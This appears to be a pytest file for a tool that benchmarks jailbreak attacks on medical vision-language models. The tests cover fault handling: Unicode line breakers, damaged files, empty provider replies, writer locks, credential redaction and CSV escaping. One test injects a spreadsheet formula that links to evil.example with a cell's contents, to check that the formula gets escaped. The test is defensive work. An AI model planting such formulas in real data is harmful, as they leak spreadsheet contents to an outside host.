"""Truth under faults: characters that some readers take for line breaks, lone surrogates, damaged lines,
providers that answer 200 without an answer, a body that trickles, two writers on one stage folder. None may
change a number without a word."""

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import numpy as np
import pytest
from typer.testing import CliRunner

from chat_helpers import CAPS_TARGET
from medattack.cli import app
from medattack.errors import CorruptFileError, ProviderFilterError, TargetError
from medattack.models.targets import Query, TargetConfig, load_target
from medattack.storage import SqliteCache, append_jsonl, read_jsonl

runner = CliRunner()
# every character str.splitlines breaks on besides "\n", and a lone surrogate
BREAKERS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
SURROGATE = "\ud800"

FACTORY = '''
BREAKERS = {breakers!r}


class Breaker:
    def generate(self, images, questions, max_new_tokens):
        return [f"Step one{{BREAKERS[len(q) % len(BREAKERS)]}}then two {{q[-9:]}}{{chr(0xD800)}}" for q in questions]


def load(device="cpu", dtype="auto"):
    return Breaker()
'''


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args], terminal_width=300)


def queried_run(tmp_path):
    """A run of one Matching image, asked of the tiny model: (run, its responses.jsonl)."""
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
    return run, next((run / "responses").glob("*/responses.jsonl"))


def test_line_breakers_and_surrogates_survive_query_score_and_report(tmp_path):
    factory = tmp_path / "breaker.py"
    factory.write_text(FACTORY.format(breakers=BREAKERS))
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    first = invoke("query", run, "--target", f"python:{factory}:load", "--limit", "4")
    assert first.exit_code == 0, first.output
    path = next((run / "responses").glob("*/responses.jsonl"))
    rows = read_jsonl(path)
    assert len(rows) >= 4 and all(SURROGATE in r["response"] for r in rows)  # kept as returned
    assert {ch for r in rows for ch in BREAKERS if ch in r["response"]}  # the breakers are there, whole
    assert path.read_bytes().count(b"\n") == len(rows)  # one line per record on disk
    again = invoke("query", run, "--target", f"python:{factory}:load", "--limit", "4")
    assert "0 asked now" in " ".join(again.output.split())  # nothing lost, nothing paid for twice
    assert len(read_jsonl(path)) == len(rows)
    scored = invoke("score", run, "--set", "metrics=[keyword_asr, judge]")
    assert scored.exit_code == 0, scored.output
    scores = read_jsonl(next((run / "scores").glob("*/scores.jsonl")))
    assert len({s["response_id"] for s in scores}) == len(rows)  # every answer scored
    assert all(s["value"] is not None for s in scores if s["metric"] == "judge")
    report = invoke("report", run)
    assert report.exit_code == 0, report.output
    assert "\ufffd" in (run / "report" / "report.html").read_text(encoding="utf-8")  # shown, not crashed


def test_the_caches_keep_what_a_provider_returned(tmp_path):
    cache = SqliteCache(tmp_path / "cache.sqlite")
    value = {"choices": [{"message": {"content": "a" + "".join(BREAKERS) + SURROGATE}}]}
    cache.put("k", value)
    assert SqliteCache(tmp_path / "cache.sqlite").get("k") == value


def test_search_nodes_read_back_whole(tmp_path):
    from medattack.records import SearchNode
    from medattack.storage import append_records, read_records

    path = tmp_path / "nodes" / "s1.jsonl"
    for k, ch in enumerate(BREAKERS):
        append_records(path, SearchNode(
            node_id=str(k), parent=None, depth=1, question=f"ask {ch} {k}", move={"name": "none"}, rationale=ch,
            proposer="attacker", image_file="", responses=[f"answer{ch}{SURROGATE}"], verdicts=[0], score=0.0,
            jailbroken_rate=0.0, success=False, on_topic=True, target_queries=1, tokens={}, seconds=0.1))
    back = read_records(path, SearchNode)
    assert [n.question for n in back] == [f"ask {ch} {k}" for k, ch in enumerate(BREAKERS)]
    assert all(n.responses[0].endswith(SURROGATE) for n in back)


def test_a_damaged_line_is_an_error_naming_the_line_and_a_torn_last_line_is_skipped(tmp_path):
    path = tmp_path / "responses.jsonl"
    append_jsonl(path, {"a": 1}, {"a": 2})
    path.write_bytes(path.read_bytes() + b'{"a": 3')  # a crash mid-append
    assert read_jsonl(path) == [{"a": 1}, {"a": 2}]
    append_jsonl(path, {"a": 4})  # the next append cuts the torn line
    assert read_jsonl(path) == [{"a": 1}, {"a": 2}, {"a": 4}]
    path.write_bytes(b'{"a": 1}\n{"a": 2, oops}\n{"a": 3}\n')  # damage in the middle
    with pytest.raises(CorruptFileError, match=r"responses.jsonl:2: .*delete that line"):
        read_jsonl(path)


def test_a_damaged_samples_file_stops_the_stage_with_the_line(tmp_path):
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    samples = run / "benchmark" / "samples.jsonl"
    lines = samples.read_bytes().split(b"\n")
    lines[1] = lines[1][:40]  # a line cut short in the middle of the file, not a torn last append
    samples.write_bytes(b"\n".join(lines))
    result = invoke("query", run, "--target", "tiny", "--limit", "1")
    assert result.exit_code != 0 and "samples.jsonl:2:thislineisnotaJSONrecord" in "".join(result.output.split())


def test_a_users_responses_file_with_line_breakers_reads_every_row(tmp_path):
    from medattack.scoring.inputs import read_responses_file

    path = tmp_path / "answers.jsonl"
    path.write_text("".join(json.dumps({"question": f"q{k}", "response": f"a{ch}b"}, ensure_ascii=False) + "\n"
                            for k, ch in enumerate(BREAKERS[3:])), encoding="utf-8")
    assert [i.response for i in read_responses_file(path)] == [f"a{ch}b" for ch in BREAKERS[3:]]


class ScriptedProvider:
    """A loopback chat endpoint that answers each request with the next scripted (status, body) — bytes sent
    as they are — or trickles a body a byte at a time; the last script entry repeats. Stopped by the test."""

    def __init__(self, script: list[tuple[int, bytes]], trickle: float = 0.0) -> None:
        self.script, self.trickle, self.requests = list(script), trickle, 0
        provider = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):  # noqa: N802
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                provider.requests += 1
                status, body = provider.script[min(provider.requests, len(provider.script)) - 1]
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                try:
                    for k in range(len(body)):
                        self.wfile.write(body[k:k + 1] if provider.trickle else body[k:])
                        self.wfile.flush()
                        if not provider.trickle:
                            break
                        time.sleep(provider.trickle)
                except (BrokenPipeError, ConnectionResetError):
                    pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base_url = f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def _chat(content=None, finish="stop", **message) -> bytes:
    return json.dumps({"choices": [{"message": {"role": "assistant", "content": content, **message},
                                    "finish_reason": finish}]}).encode()


GOOD = _chat("The scan shows clear lungs.")
NO_ANSWER = {
    "error object": json.dumps({"error": {"message": "upstream overloaded", "type": "server_error"}}).encode(),
    "empty choices": json.dumps({"choices": []}).encode(),
    "content null": _chat(None),
    "content a number": _chat(42),
    "content an object": _chat({"text": "hi"}),
    "a cut-off body": GOOD[: len(GOOD) // 2],
}


def _target(provider: ScriptedProvider, tmp_path, timeout: float = 10.0):
    from medattack.openai_client import APIConfig

    config = TargetConfig(kind="api", model="m", api=APIConfig(base_url=provider.base_url, max_retries=0,
                                                               timeout=timeout))
    return load_target(config, cache_path=tmp_path / "cache.sqlite")


def _query() -> Query:
    return Query("q1", "What does this show?", np.zeros((8, 8, 3), dtype=np.uint8))


@pytest.mark.parametrize("case", list(NO_ANSWER))
def test_a_200_without_an_answer_is_a_failure_and_is_never_cached(case, tmp_path):
    provider = ScriptedProvider([(200, NO_ANSWER[case]), (200, GOOD)])
    try:
        target = _target(provider, tmp_path)
        first = target.answer([_query()])[0]
        assert isinstance(first, TargetError) and "200" in str(first)  # not "", which would score as a refusal
        assert target.answer([_query()]) == ["The scan shows clear lungs."]  # asked again: nothing was cached
        assert target.answer([_query()]) == ["The scan shows clear lungs."] and provider.requests == 2  # cached
    finally:
        provider.close()


def test_content_parts_are_joined_and_a_structured_refusal_is_an_answer(tmp_path):
    parts = _chat([{"type": "text", "text": "Clear "}, {"type": "text", "text": "lungs."}])
    provider = ScriptedProvider([(200, parts), (200, _chat(None, refusal="I can't help with that."))])
    try:
        target = _target(provider, tmp_path)
        assert target.answer([_query()]) == ["Clear lungs."]
        assert target.answer([Query("q2", "Another?", None)]) == ["I can't help with that."]
    finally:
        provider.close()


def test_a_content_filtered_answer_is_its_own_kind_counted_and_never_scored(tmp_path):
    provider = ScriptedProvider([(200, _chat(None, finish="content_filter"))])
    try:
        target = _target(provider, tmp_path)
        outcome = target.answer([_query()])[0]
        assert isinstance(outcome, ProviderFilterError) and "content_filter" in str(outcome)
        run = tmp_path / "run"
        assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
        result = invoke("query", run, "--target", "api:m", "--base-url", provider.base_url, "--limit", "2",
                        "--set", "target.api.max_retries=0")
        assert result.exit_code != 0 or "failed" in result.output
        folder = next((run / "responses").glob("*/failures.jsonl")).parent
        failures = read_jsonl(folder / "failures.jsonl")
        assert failures and {f["error"] for f in failures} == {"ProviderFilterError"}
        assert not read_jsonl(folder / "responses.jsonl")  # no empty answer to be scored as a refusal
        from medattack.report.reading import load_run

        counts = load_run(run).failures
        assert counts.get(f"responses/{folder.name} (ProviderFilterError)") == len(failures), counts
    finally:
        provider.close()


def test_a_trickling_answer_ends_at_the_timeout(tmp_path):
    provider = ScriptedProvider([(200, GOOD)], trickle=0.25)  # ~55 bytes: 14 s at this pace
    try:
        target = _target(provider, tmp_path, timeout=1.0)
        started = time.monotonic()
        outcome = target.answer([_query()])[0]
        assert isinstance(outcome, TargetError) and time.monotonic() - started < 4.0
    finally:
        provider.close()


HOLDER = """
import sys, time
from pathlib import Path
from medattack.stages.base import one_writer
with one_writer(Path(sys.argv[1]), "query (test holder)"):
    Path(sys.argv[2]).write_text("holding")
    while not Path(sys.argv[3]).exists():
        time.sleep(0.05)
"""


def test_a_second_writer_of_a_stage_folder_is_refused_with_one_line(tmp_path):
    import subprocess
    import sys

    run, path = queried_run(tmp_path)
    folder = path.parent
    rows = len(read_jsonl(folder / "responses.jsonl"))
    writers = [(folder, ["query", run, "--target", "tiny", "--limit", "1"]),
               (run / "scores" / folder.name, ["score", run, "--set", "metrics=[keyword_asr]"])]
    for k, (locked, command) in enumerate(writers):
        holding, release = tmp_path / f"holding-{k}", tmp_path / f"release-{k}"
        holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(locked), str(holding), str(release)])
        try:
            deadline = time.monotonic() + 60
            while not holding.exists() and time.monotonic() < deadline:
                time.sleep(0.05)
            refused = invoke(*command)
            assert refused.exit_code != 0, refused.output
            message = " ".join(refused.output.split())
            assert "is being written by medattack query (test holder)" in message and "twice" in message
            assert len(read_jsonl(folder / "responses.jsonl")) == rows  # nothing written by the refused one
        finally:
            release.write_text("go")
            holder.wait(timeout=60)
        after = invoke(*command)
        assert after.exit_code == 0, after.output  # the lock went with the holder
    assert not (folder / ".writer.lock").read_text()  # released locks name nobody


def test_answers_that_are_not_text_are_failures_naming_the_line_never_scores(tmp_path):
    rows = [{"question": "q1", "response": "I cannot help.", "condition": "malicious"},
            {"question": "q2", "response": {"text": "Sure, here is how"}, "condition": "malicious"},
            {"question": "q3", "response": 7, "condition": "malicious"},
            {"question": "q4", "response": ["a", "b"], "condition": "malicious"}]
    path = tmp_path / "answers.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    result = invoke("score", "--responses", path, "--set", "metrics=[keyword_asr, judge]")
    assert result.exit_code == 0, result.output
    out = tmp_path / "answers.scores"
    scores = read_jsonl(out / "scores.jsonl")
    assert {s["response_id"] for s in scores} == {"1"}  # the dict is not scored 1.0, nor the number
    failures = read_jsonl(out / "failures.jsonl")
    assert [f["response"] for f in failures] == [f"{path}:row {k}" for k in (2, 3, 4)]
    assert "not text" in failures[0]["problem"] and "dict" in failures[0]["problem"]


def test_a_run_whose_target_stored_a_number_scores_the_rest(tmp_path):
    run, path = queried_run(tmp_path)
    rows = read_jsonl(path)
    rows[0]["response"] = 42  # what a careless custom target could leave
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    result = invoke("score", run, "--set", "metrics=[keyword_asr]")
    assert result.exit_code == 0, result.output
    folder = next((run / "scores").glob("*/scores.jsonl")).parent
    assert len({s["response_id"] for s in read_jsonl(folder / "scores.jsonl")}) == len(rows) - 1
    assert read_jsonl(folder / "failures.jsonl")[0]["response"] == f"{path}:1"


def test_damaged_state_files_and_caches_are_named_with_the_fix(tmp_path):
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
    assert invoke("score", run, "--set", "metrics=[keyword_asr]").exit_code == 0
    folder = next((run / "responses").glob("*/config.json")).parent
    (folder / "config.json").write_text('{"stage": {"target"')  # cut off
    result = invoke("query", run, "--target", "tiny", "--limit", "1")
    message = " ".join(result.output.split())
    assert result.exit_code == 2 and "config.json: not a JSON state file" in message and "delete it" in message
    (folder / "config.json").unlink()  # the fix it names works: the results beside it are kept
    assert "0 asked now" in " ".join(invoke("query", run, "--target", "tiny", "--limit", "1").output.split())
    manifest = (run / "run.json").read_text()
    (run / "run.json").write_text("garbage")
    for command in (["score", run], ["report", run], ["query", run, "--target", "tiny", "--limit", "1"]):
        result = invoke(*command)
        assert result.exit_code == 2 and "run.json: not a JSON state file" in " ".join(result.output.split())
    (run / "run.json").write_text(manifest)
    cache = run / "scores" / "cache.sqlite"
    cache.write_bytes(b"not a database" * 100)
    next((run / "scores").glob("*/scores.jsonl")).unlink()  # so the cache is read
    rescored = invoke("score", run, "--set", "metrics=[keyword_asr]")
    assert rescored.exit_code == 0 and "computed now" in rescored.output
    assert len(list(cache.parent.glob(f"{cache.name}.damaged-*"))) == 1  # kept aside, not deleted
    samples = read_jsonl(next((run / "scores").glob("*/scores.jsonl")))
    (run / "benchmark").rename(run / "benchmark-elsewhere")
    for command in (["score", run], ["report", run]):
        result = invoke(*command)
        assert result.exit_code == 2 and "benchmark is gone" in " ".join(result.output.split())
    assert read_jsonl(next((run / "scores").glob("*/scores.jsonl"))) == samples  # nothing moved to stale


def test_credentials_in_a_base_url_are_refused_in_one_line_and_never_reach_disk_or_the_console(tmp_path):
    import os
    import subprocess
    import sys

    provider = ScriptedProvider([(500, b'{"error": {"message": "down"}}')])
    try:
        secret_url = provider.base_url.replace("http://", "http://alice:hunter2@") + "?api_key=sk-query-secret&v=1"
        run = tmp_path / "run"
        assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
        before = {p: p.read_bytes() for p in run.rglob("*") if p.is_file()}
        done = subprocess.run([sys.executable, "-m", "medattack.cli", "-v", "query", str(run), "--target", "api:m",
                               "--base-url", secret_url, "--limit", "1"], capture_output=True, text=True,
                              timeout=120, env={**os.environ, "COLUMNS": "300"})
        said = done.stdout + done.stderr
        assert done.returncode == 2 and "carries a credential (user-info, api_key)" in said and "--api-key-env" in said
        assert len([line for line in said.splitlines() if line.strip()]) == 1, said
        written = "".join(p.read_text(errors="replace") for p in run.rglob("*") if p.is_file())
        for secret in ("hunter2", "alice", "sk-query-secret"):
            assert secret not in written and secret not in said
        assert {p: p.read_bytes() for p in run.rglob("*") if p.is_file()} == before  # nothing written at all
        assert provider.requests == 0  # refused before any request
    finally:
        provider.close()


def test_the_console_log_redacts_every_url_the_http_library_logs(caplog):
    import logging

    from medattack.cli.app import err_console, log_handler

    handler = log_handler()
    record = logging.LogRecord("httpx", logging.INFO, __file__, 1, "HTTP Request: %s %s \"%s\"", (
        "POST", "http://alice:hunter2@host:8000/v1/chat/completions?api_key=sk-1&v=1", "HTTP/1.1 200 OK"), None)
    with err_console.capture() as captured:
        handler.handle(record)
    said = captured.get()
    assert "hunter2" not in said and "sk-1" not in said and "alice" not in said
    assert "[REDACTED]@host:8000/v1/chat/completions?api_key=[REDACTED]&v=1" in " ".join(said.split())


def test_csv_cells_that_start_like_formulas_are_escaped():
    from medattack.storage import csv_cell

    assert [csv_cell(v) for v in ("=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
        "'=HYPERLINK(\"http://x\")", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ("-0.5", "+3", "1e-3", "normal", -0.5, None)] == ["-0.5", "+3", "1e-3", "normal",
                                                                                   -0.5, None]


def test_a_formula_from_the_data_reaches_no_report_csv(tmp_path):
    run, path = queried_run(tmp_path)
    rows = read_jsonl(path)
    for row in rows:
        row["modality"] = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert invoke("score", run, "--set", "metrics=[keyword_asr]").exit_code == 0
    assert invoke("report", run).exit_code == 0
    cells = [cell for table in (run / "report" / "tables").glob("*.csv")
             for line in table.read_text().splitlines() for cell in line.split(",")]
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "@"))]
    assert any("'=HYPERLINK" in c for c in cells)


@pytest.mark.parametrize(("setting", "words"), [
    ("target.api.timeout=-1", "'timeout' must be 0.001 or more"),
    ("target.api.timeout=nan", "expects a finite number"),
    ("target.api.timeout=abc", "expects a finite number"),
    ("target.api.max_retries=-1", "'max_retries' must be from 0"),
    ("target.api.concurrency=0", "'concurrency' must be from 1 to 1024"),
])
def test_bad_api_settings_are_one_line_before_anything_runs(tmp_path, setting, words):
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    result = invoke("query", run, "--target", "api:m", "--base-url", "http://127.0.0.1:9/v1", "--set", setting)
    assert result.exit_code == 2 and words in " ".join(result.output.split())
    assert "Traceback" not in result.output and not list((run / "responses").glob("*/config.json"))


@pytest.mark.parametrize("device", ["cuda", "cuda:3", "mps", "banana"])
def test_a_device_this_machine_lacks_is_one_line_before_any_model_loads(tmp_path, device, monkeypatch):
    import torch

    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)  # as on this CPU machine, also where CI has a GPU
    monkeypatch.setattr(torch.cuda, "device_count", lambda: 0)
    monkeypatch.setattr(torch.backends.mps, "is_available", lambda: False)
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    for command in (["attack", run, "--method", "gcg", "--model", "tiny", "--limit", "1", "--device", device],
                    ["query", run, "--target", "tiny", "--limit", "1", "--device", device]):
        result = invoke(*command)
        text = " ".join(result.output.split())
        assert result.exit_code == 2 and f"device {device!r}" in text, text
        assert "--device cpu" in text or "use cpu, cuda, cuda:N or mps" in text, text
        errors = [line for line in result.output.splitlines() if not line[:2].isdigit()]  # progress lines aside
        assert len(errors) == 1  # one message, not a traceback


LONG = '''
class Long:
    def generate(self, images, questions, max_new_tokens):
        return ["word " * 100_000 for _ in questions]


def load(device="cpu", dtype="auto"):
    return Long()
'''


def test_long_answers_load_from_csv_and_are_stored_capped_with_a_flag(tmp_path):
    from medattack.scoring.inputs import read_responses_file

    path = tmp_path / "answers.csv"
    path.write_text("question,response\nq1," + "x" * 200_000 + "\nq2,short\n")
    assert [len(i.response) for i in read_responses_file(path)] == [200_000, 5]
    factory = tmp_path / "long.py"
    factory.write_text(LONG)
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    result = invoke("query", run, "--target", f"python:{factory}:load", "--limit", "1",
                    "--set", "max_response_chars=1000", "--set", "controls=[]", "--set", "replay_attacks=false")
    assert result.exit_code == 0, result.output
    rows = read_jsonl(next((run / "responses").glob("*/responses.jsonl")))
    assert rows and all(len(r["response"]) == 1000 and r["truncated_from"] == 500_000 for r in rows)


@pytest.mark.parametrize("staged_complete", [True, False])
def test_a_rebuild_killed_between_its_renames_is_settled_by_the_next_command(tmp_path, staged_complete):
    run = tmp_path / "run"
    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
    old_samples = (run / "benchmark" / "samples.jsonl").read_bytes()
    staged = run / ".benchmark.building"
    import shutil

    shutil.copytree(run / "benchmark", staged)
    (staged / "samples.jsonl").write_bytes(old_samples[: old_samples.index(b"\n") + 1])  # the "new" build: 1 sample
    if not staged_complete:
        (staged / "build.json").write_text('{"building": true}')
    (run / "benchmark").rename(run / ".benchmark.old")  # killed here: no benchmark/
    result = invoke("query", run, "--target", "tiny", "--limit", "1")
    assert result.exit_code == 0, result.output
    expected = old_samples[: old_samples.index(b"\n") + 1] if staged_complete else old_samples
    assert (run / "benchmark" / "samples.jsonl").read_bytes() == expected and not (run / ".benchmark.old").exists()


def test_a_second_build_of_one_run_is_refused_with_one_line(tmp_path):
    import subprocess
    import sys

    run = tmp_path / "run"
    run.mkdir()
    holding, release = tmp_path / "holding", tmp_path / "release"
    holder = subprocess.Popen([sys.executable, "-c", HOLDER.replace('"query (test holder)"', '"build"'),
                               str(run), str(holding), str(release)])
    try:
        deadline = time.monotonic() + 60
        while not holding.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        result = invoke("build", run, "--task", "Matching", "--max-per-category", "1")
        assert result.exit_code == 2 and "is being written by medattack build" in " ".join(result.output.split())
        assert not (run / "benchmark").exists()
    finally:
        release.write_text("go")
        holder.wait(timeout=60)



def test_serve_gives_each_concurrent_request_its_own_max_tokens(tmp_path):
    import urllib.request
    from concurrent.futures import ThreadPoolExecutor

    from medattack.serve import ChatServer, ServeConfig

    factory = tmp_path / "caps.py"
    factory.write_text(CAPS_TARGET)
    server = ChatServer(load_target(TargetConfig(kind="python", model=f"{factory}:load", batch_size=16)),
                        ServeConfig(port=0, max_batch=16, batch_wait_ms=50)).start()

    def ask(k: int) -> tuple[int, str]:
        body = {"model": "m", "max_tokens": 1 + k % 7,
                "messages": [{"role": "user", "content": [{"type": "text", "text": f"request {k}"}]}]}
        request = urllib.request.Request(f"{server.base_url}/chat/completions", json.dumps(body).encode(),
                                         {"Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=60) as response:
            return k, json.loads(response.read())["choices"][0]["message"]["content"]

    try:
        with ThreadPoolExecutor(max_workers=40) as pool:
            answers = list(pool.map(ask, range(40)))
        assert all(text == f"cap={1 + k % 7} q=request {k}" for k, text in answers)
        fractional = {"model": "m", "max_tokens": 8.5, "messages": [{"role": "user", "content": "hi"}]}
        request = urllib.request.Request(f"{server.base_url}/chat/completions", json.dumps(fractional).encode(),
                                         {"Content-Type": "application/json"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=60)
        assert refused.value.code == 400
    finally:
        server.close()


def test_an_api_answer_with_line_breakers_and_a_surrogate_comes_back_whole_and_cached(tmp_path):
    text = "Step one" + "".join(BREAKERS) + "end" + SURROGATE
    body = json.dumps({"choices": [{"message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]})
    provider = ScriptedProvider([(200, body.encode())])
    try:
        assert _target(provider, tmp_path).answer([_query()]) == [text]
        assert _target(provider, tmp_path).answer([_query()]) == [text] and provider.requests == 1  # from the cache
    finally:
        provider.close()


def test_fifty_requests_in_flight_against_a_rate_limited_provider_lose_nothing_and_ask_nothing_twice(tmp_path):
    """Past its rate the provider answers 429 with Retry-After: the client paces every thread to it, so each of
    the queries is answered once, none fails after its retries, none is asked twice."""
    from medattack.openai_client import APIConfig
    from medattack.stages.query import QueryConfig
    from medattack.stages.query import run as query
    from rate_limited import RateLimitedProvider

    run = tmp_path / "run"
    assert invoke("build", run).exit_code == 0
    with RateLimitedProvider(rate=40, burst=5) as provider:
        config = QueryConfig(target=TargetConfig(kind="api", model="vision", max_new_tokens=8, api=APIConfig(
            base_url=provider.base_url, concurrency=50)), limit=120, controls=(), replay_attacks=False, chunk=120)
        result = query(run, config)
    assert provider.refused > 0  # the limit was reached, and ridden out
    assert result.asked == 120 and not result.failures and provider.accepted == 120 and provider.duplicates == 0
    assert len(read_jsonl(next((run / "responses").glob("*/responses.jsonl")))) == 120
